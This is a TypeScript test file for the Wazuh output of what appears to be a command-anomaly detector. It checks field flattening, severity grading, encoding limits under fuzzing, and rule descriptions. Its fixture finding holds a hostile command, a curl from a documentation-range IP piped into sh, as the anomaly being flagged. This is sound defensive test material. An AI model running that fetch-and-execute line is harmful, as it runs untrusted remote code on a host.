import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import fc from 'fast-check';
import type { Finding } from '../../src/event/index.ts';
import { readWazuh } from '../../src/text/wazuh/read.ts';
import { wazuhFindings, wazuhRules } from '../../src/text/wazuh-rules.ts';
import { testContext } from '../support/context.ts';
import { finding, findings, reason } from '../support/findings.ts';
import { makeSink, targetOf } from '../support/sink.ts';

const folder = mkdtempSync(join(tmpdir(), 'scops-wazuh-'));
after(() => rmSync(folder, { recursive: true }));
let files = 0;

async function lines(many: readonly Finding[]): Promise<string[]> {
  const path = join(folder, `${++files}.json`);
  const sink = await makeSink('wazuh', await targetOf('wazuh', path), testContext());
  await sink.write(many);
  await sink.write(many);
  await sink.close?.();
  return readFileSync(path, 'utf8').split(/(?<=\n)/);
}

type Nested = { readonly [name: string]: string | Nested };

/** As Wazuh's JSON decoder does it: `a.b` for a value inside an object. */
function flatten(value: Nested, path = ''): [string, string][] {
  return Object.entries(value).flatMap(([name, inner]): [string, string][] =>
    typeof inner === 'string' ? [[path + name, inner]] : flatten(inner, `${path}${name}.`),
  );
}
const decoded = async (one: Finding): Promise<Record<string, string>> =>
  Object.fromEntries(flatten(JSON.parse((await lines([one]))[0] ?? '')));

test('a finding becomes fields that Wazuh decodes', async () => {
  assert.deepEqual(await decoded(finding()), {
    'scops.id': 'lof:wazuh:manager:1767348672.1001',
    'scops.time': '2026-01-02T10:11:12.000Z',
    'scops.detector': 'lof',
    'scops.kind': 'process',
    'scops.grade': 'medium',
    'scops.title': "bash -c 'curl http://203.0.113.9/x | sh'",
    'scops.score': '2.314159',
    'scops.threshold': '1.5',
    'scops.p_value': '0.0002',
    'scops.rank': '1',
    'scops.count': '1',
    'scops.entity.type': 'host',
    'scops.entity.name': 'web-1',
    'scops.host': 'web-1',
    'scops.user': 'www-data',
    'scops.command': "bash -c 'curl http://203.0.113.9/x | sh'",
    'scops.reason': 'The nearest known command is "bash -c uptime", at distance 0.41, seen 212 times on 5 hosts.',
    'scops.reasons':
      'The nearest known command is "bash -c uptime", at distance 0.41, seen 212 times on 5 hosts. | The first time that www-data runs curl.',
    'scops.event_id': 'wazuh:manager:1767348672.1001',
    'scops.raw': '{"rule":{"id":"80792"}}',
  });
});

test('one line a finding, each finding once', async () => {
  const ids = (await lines(findings(3))).map((line) => JSON.parse(line).scops.event_id);
  assert.deepEqual(ids, ['event-1', 'event-2', 'event-3']);
});

test('the grade follows the p-value, without one the score, and a listed event is medium', async () => {
  const grade = async (overrides: Partial<Finding>): Promise<string | undefined> =>
    (await decoded(finding(overrides)))['scops.grade'];
  assert.equal(await grade({ pValue: 0.0001 }), 'high');
  assert.equal(await grade({ pValue: 0.001 }), 'medium');
  assert.equal(await grade({ pValue: 0.01 }), 'low');
  const { pValue: _, ...plain } = finding();
  const [high, medium, low] = await lines([3, 2, 1.6].map((score) => ({ ...plain, id: String(score), score })));
  assert.deepEqual(
    [high, medium, low].map((line) => JSON.parse(line ?? '').scops.grade),
    ['high', 'medium', 'low'],
  );
  assert.equal(await grade({ score: 1 }), 'medium');
  const login = finding({ score: 20.7, threshold: 5, pValue: 0.008 }, { kind: 'login' });
  assert.equal((await decoded(login))['scops.grade'], 'high');
});

const anyText = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.constantFrom('[{"a":1}]', '[1,2]', '"\\', '\u0000', '\ud800', '日', '<', '\n', '"integration":"ms-graph"'),
);
const longText = fc.tuple(anyText, fc.constantFrom(1, 1, 100, 70_000)).map(([text, times]) => text.repeat(times));

test('whatever a log says, Wazuh reads the line whole and keeps every field as text', async () => {
  await fc.assert(
    fc.asyncProperty(longText, longText, longText, longText, async (title, name, raw, why) => {
      const fields = {
        'host.name': name,
        'user.name': title,
        'process.command_line': raw,
        'file.path': why,
        'source.ip': name,
      };
      const one = finding(
        { id: raw, title, entity: { type: name, name }, reasons: [reason(why), reason(title)] },
        { id: why, raw, fields },
      );
      const [line = ''] = await lines([one]);
      assert.ok(Buffer.byteLength(line) <= 56 * 1024, 'shorter than what the collector reads, with room for the alert');
      assert.ok(line.startsWith('{"scops":{'), 'what the decoder of Wazuh matches on');
      assert.doesNotMatch(line, /"integration":"ms-graph"/, 'what another decoder matches on');
      assert.doesNotMatch(line, /[\u0085\u2028\u2029]|\\u0000|\\u[dD][89abAB]/);
      assert.equal(line.isWellFormed(), true);
      for (const [field, value] of flatten(JSON.parse(line))) {
        assert.ok(
          value.length > 0 && Buffer.byteLength(value) <= 30_000,
          `${field}: ${Buffer.byteLength(value)} bytes`,
        );
        assert.doesNotMatch(value, /^\[/, `${field}: no list`);
      }
    }),
    { numRuns: 200 },
  );
});

test('a description of the rules stays below what Wazuh keeps', async () => {
  const long = 'x'.repeat(5000);
  const fields = await decoded(finding({ title: long, entity: { type: long, name: long } }));
  for (const [, text = ''] of wazuhRules().matchAll(/<description>(.+)<\/description>/g)) {
    const description = text.replace(/\$\(([\w.]+)\)/g, (_, name: string) => fields[name] ?? assert.fail(name));
    assert.ok(Buffer.byteLength(description) < 1024);
  }
});

test('the rules ask only for fields that the sink writes, and have a level for each grade', async () => {
  const fields = await decoded(finding());
  const rules = wazuhRules();
  const asked = [...rules.matchAll(/<field name="([^"]+)"|\$\(([^)]+)\)/g)].map(
    ([, name, shown]) => name ?? shown ?? '',
  );
  assert.ok(asked.length >= 8);
  for (const name of asked) assert.ok(name in fields, name);
  const levels = [
    ...rules.matchAll(/level="(\d+)">\s*<if_sid>100700<\/if_sid>\s*<field name="scops.grade">\^(\w+)\$/g),
  ];
  assert.deepEqual(
    levels.map(([, level, grade]) => [grade, level]),
    [
      ['low', '5'],
      ['medium', '8'],
      ['high', '12'],
    ],
  );
});

test('a finding that comes back as an alert is a log line in the group scops, not a command again', async () => {
  const raw =
    'type=SYSCALL msg=audit(1767348672.000:1): syscall=59 type=EXECVE msg=audit(1767348672.000:1): argc=1 a0=62617368';
  const [line = ''] = await lines([finding({ title: raw, reasons: [reason(raw)] }, { raw })]);
  for (const full_log of [undefined, line.trim()]) {
    const alert = {
      timestamp: '2026-01-02T10:11:13.000+0000',
      rule: { id: '100702', level: 8, groups: ['scops', 'anomaly'] },
      agent: { id: '000', name: 'manager' },
      manager: { name: 'manager' },
      id: '1767348673.1',
      decoder: { name: 'json' },
      data: JSON.parse(line),
      location: wazuhFindings,
      full_log,
    };
    const read = readWazuh(JSON.stringify(alert));
    assert.ok('kind' in read);
    assert.equal(read.kind, 'log');
    assert.deepEqual(read.fields['rule.groups'], ['scops', 'anomaly']);
  }
});
